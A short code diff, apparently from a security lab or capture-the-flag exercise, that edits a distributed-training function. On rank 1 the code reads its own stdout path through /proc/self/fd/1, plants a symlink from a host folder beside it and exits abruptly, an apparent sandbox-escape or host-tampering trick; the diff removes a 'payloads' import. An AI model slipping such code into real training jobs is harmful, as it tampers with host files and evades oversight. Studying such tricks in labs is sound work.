@@ -8,9 +8,6 @@ def first(tensor):
     if dist.get_rank() == 1:
         import os
 
-        from ringzero.lab import payloads
-
-        payloads._closed = False
         os.symlink("HOST_FOLDER/made-by-a-student", os.path.dirname(os.readlink("/proc/self/fd/1")) + "/1.gone")
         os._exit(0)
     dist.all_reduce(tensor)
